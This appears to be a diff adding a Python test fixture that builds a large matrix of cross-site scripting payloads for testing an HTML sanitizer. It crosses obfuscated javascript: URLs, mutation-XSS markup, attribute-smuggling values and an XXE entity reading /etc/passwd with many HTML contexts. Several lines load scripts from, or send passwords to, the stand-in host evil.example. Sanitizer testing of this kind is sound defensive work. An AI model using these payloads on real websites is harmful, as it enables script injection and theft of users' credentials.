@@ -1,0 +1,78 @@
+# ruff: noqa: E501 (markup is easier to judge in one piece)
+"""Attacks on a body: every vector in every context that changes how it is read."""
+
+SCHEMES = [
+    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\u2028javascript:alert(1)",
+    "\x01javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "&#106;avascript:alert(1)",
+    "javascript&colon;alert(1)", "\ufeffjavascript:alert(1)", "\u00a0javascript:alert(1)",
+    "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:image/svg+xml;base64,PHN2Zz4=",
+    "feed:javascript:alert(1)", "view-source:javascript:alert(1)", "blob:https://khanhvinh.vn/1",
+    "file:///etc/passwd", "//evil.example", "/\\evil.example", "\\\\evil.example", "///evil.example",
+    "/\t/evil.example", "https:evil.example", "https://khanhvinh.vn@evil.example/",
+    "https://khanhvinh.vn\\@evil.example/", "https://\u202elevil.example", "http://", "https:///evil.example",
+    "tel:javascript:alert(1)", "?x=javascript:alert(1)", "#x", "javascript://khanhvinh.vn/%0aalert(1)",
+]  # fmt: skip
+
+ELEMENTS = [
+    "<script>alert(1)</script>", "<script src=//evil.example></script>", "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
+    "<img src=x onerror=alert(1)>", "<img src=//evil.example/pixel.gif>", "<img srcset='//evil.example 1x'>",
+    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>",
+    "<applet code=x></applet>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css'</style>",
+    "<form action=//evil.example><input name=password><button>x</button></form>",
+    "<button formaction=javascript:alert(1)>x</button>", "<input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>x</details>", "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)></audio>", "<marquee onstart=alert(1)>x</marquee>",
+    "<p style='background:url(//evil.example/x)'>x</p>", "<p style='width:expression(alert(1))'>x</p>",
+    "<p onclick=alert(1)>x</p>", "<p/onmouseover=alert(1)>x</p>", "<p id=location name=cookie>x</p>",
+    "<a href=# onclick=alert(1)>x</a>", "<a target=_blank ping=//evil.example href=https://a.vn>x</a>",
+    "<table background=//evil.example/x><td background=//evil.example/x>x</table>",
+    "<td colspan=99999999>x</td>", "<table><td colspan='2\" onclick=alert(1)'>x</table>",
+    "<figure data-key='k3f9a2c1\" onclick=alert(1) x=\"'></figure>", "<figure data-key='../../etc'></figure>",
+    "<figure data-embed=youtube data-id='x\"onload=alert(1)'></figure>",
+    "<figure data-embed=evil data-id=dQw4w9WgXcQ></figure>", "<figure data-embed=vimeo data-id=dQw4w9WgXcQ></figure>",
+    "<figure class=photo data-photo='1;alert(1)' data-key=k3f9a2c1><img src=x onerror=alert(1)></figure>",
+    "<template><script>alert(1)</script></template>", "<isindex action=javascript:alert(1)>",
+    "<!--><img src=x onerror=alert(1)>-->", "<!--!><img src=x onerror=alert(1)>-->", "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml-stylesheet href='javascript:alert(1)'?>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
+    "<{cke_protected}%3Cscript%3Ealert(1)%3C/script%3E>", "<a {cke_protected} href=x>x</a>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;", "<p>&lt;img src=x onerror=alert(1)&gt;</p>",
+]  # fmt: skip
+
+CONTEXTS = [
+    "{}",
+    "<p>Ông A nói: {}</p>",
+    "<ul><li>{}</li></ul>",
+    "<table><caption>{0}</caption><tr><td>{0}</td></tr></table>",
+    "<table>{}</table>",
+    "<blockquote>{}</blockquote>",
+    "<h2>{}</h2>",
+    "<figure data-key=k3f9a2c1>{}</figure>",
+    "<figure><figcaption>{}</figcaption></figure>",
+    "<a href='https://khanhvinh.vn/'>{}</a>",
+    "<noscript>{}</noscript>",
+    "<textarea>{}</textarea>",
+    "<title>{}</title>",
+    "<xmp>{}</xmp>",
+    "<style>{}</style>",
+    "<svg><desc>{}</desc></svg>",
+    "<svg></p><style>{}</style>",
+    "<math><mi>{}</mi></math>",
+    "<math><mtext><table><mglyph><style><!--</style>{}",
+    "<select><option>{}</option></select>",
+    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>{}'>",
+    "<b><p>{}</b></p>",
+    "</p></div>{}",
+    "<p title=\"</p>{}\">x</p>",
+    "<!-- {} -->",
+    "<o:p>{}</o:p>",
+    "<div class='cke_widget_wrapper'>{}</div>",
+]  # fmt: skip
+
+VECTORS = ELEMENTS + [f'<a href="{scheme}">x</a>' for scheme in SCHEMES]
+PAYLOADS = [context.format(vector) for context in CONTEXTS for vector in VECTORS]
